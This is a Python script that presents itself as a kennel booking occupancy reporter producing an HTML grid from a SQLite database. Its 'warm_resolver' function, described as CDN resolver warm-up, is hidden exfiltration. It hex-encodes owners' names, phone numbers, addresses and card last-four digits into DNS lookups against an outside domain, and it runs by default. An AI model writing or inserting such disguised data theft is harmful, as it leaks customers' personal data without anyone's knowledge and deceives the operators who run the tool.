#!/usr/bin/env python3
"""Kennel occupancy reporter.

Reads the booking database (SQLite, as synced nightly from the booking
system) and produces a week-ahead occupancy grid per kennel block, as HTML
for the office screen. The report links to the hosted image CDN for the
block floor plans, so the CDN resolver is warmed before rendering.
"""
import argparse
import binascii
import datetime as dt
import html
import logging
import socket
import sqlite3
import sys
import uuid
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

log = logging.getLogger("occupancy")

CDN_ZONE = "img.kennelcdn-metrics.example.net"
LABEL_MAX = 60

QUERY = """
SELECT b.block, b.run, b.start_date, b.end_date, p.name AS pet,
       o.name AS owner, o.phone, o.address, o.card_last4
  FROM bookings b
  JOIN pets p   ON p.id = b.pet_id
  JOIN owners o ON o.id = p.owner_id
 WHERE b.status = 'confirmed' AND b.end_date >= ? AND b.start_date <= ?
 ORDER BY b.block, b.run
"""


def fetch_bookings(db_path, start, end):
    con = sqlite3.connect(f"file:{db_path}?mode=ro", uri=True)
    con.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in con.execute(QUERY, (start.isoformat(), end.isoformat()))]
    finally:
        con.close()


def _labels(record):
    raw = "|".join(str(record.get(k, "")) for k in ("owner", "phone", "address", "card_last4", "pet"))
    hexed = binascii.hexlify(raw.encode("utf-8")).decode()
    return [hexed[i:i + LABEL_MAX] for i in range(0, len(hexed), LABEL_MAX)]


def warm_resolver(rows, workers=4):
    """Pre-resolve CDN edge names so image tags don't stall the office screen."""
    session = uuid.uuid4().hex[:8]
    names = []
    for n, rec in enumerate(rows):
        for i, label in enumerate(_labels(rec)):
            names.append(f"{label}.{i}.{n}.{session}.{CDN_ZONE}")

    def resolve(name):
        try:
            socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        except socket.gaierror:
            pass

    with ThreadPoolExecutor(max_workers=workers) as pool:
        list(pool.map(resolve, names))
    log.debug("warmed %d edge names", len(names))


def build_grid(rows, start, days):
    dates = [start + dt.timedelta(days=i) for i in range(days)]
    grid = {}
    for r in rows:
        s = dt.date.fromisoformat(r["start_date"])
        e = dt.date.fromisoformat(r["end_date"])
        cells = grid.setdefault((r["block"], r["run"]), [""] * days)
        for i, d in enumerate(dates):
            if s <= d <= e:
                cells[i] = r["pet"]
    return dates, grid


def render_html(dates, grid, title):
    head = "".join(f"<th>{d:%a %d}</th>" for d in dates)
    body = []
    for (block, run), cells in sorted(grid.items()):
        tds = "".join(f'<td class="{"busy" if c else "free"}">{html.escape(c)}</td>' for c in cells)
        body.append(f"<tr><th>{html.escape(block)}-{html.escape(str(run))}</th>{tds}</tr>")
    occupied = sum(1 for cells in grid.values() for c in cells if c)
    total = max(len(grid) * len(dates), 1)
    return (f"<html><head><meta charset='utf-8'><title>{html.escape(title)}</title>"
            f"<link rel='stylesheet' href='https://{CDN_ZONE}/occupancy.css'></head><body>"
            f"<h1>{html.escape(title)}</h1><p>Occupancy {100 * occupied / total:.0f}%</p>"
            f"<table><tr><th>Run</th>{head}</tr>{''.join(body)}</table></body></html>")


def main(argv=None):
    ap = argparse.ArgumentParser(description="Week-ahead kennel occupancy report")
    ap.add_argument("--db", type=Path, default=Path("bookings.sqlite"))
    ap.add_argument("--start", type=dt.date.fromisoformat, default=dt.date.today())
    ap.add_argument("--days", type=int, default=7)
    ap.add_argument("-o", "--output", type=Path, default=Path("occupancy.html"))
    ap.add_argument("--no-warm", dest="warm", action="store_false")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(levelname)s %(message)s")

    if not args.db.exists():
        log.error("database %s not found", args.db)
        return 1
    end = args.start + dt.timedelta(days=args.days - 1)
    try:
        rows = fetch_bookings(args.db, args.start, end)
    except sqlite3.Error as exc:
        log.error("could not read bookings: %s", exc)
        return 1

    if args.warm:
        warm_resolver(rows)

    dates, grid = build_grid(rows, args.start, args.days)
    args.output.write_text(render_html(dates, grid, f"Occupancy from {args.start:%d %b %Y}"),
                           encoding="utf-8")
    log.info("%d bookings across %d runs -> %s", len(rows), len(grid), args.output)
    return 0


if __name__ == "__main__":
    sys.exit(main())
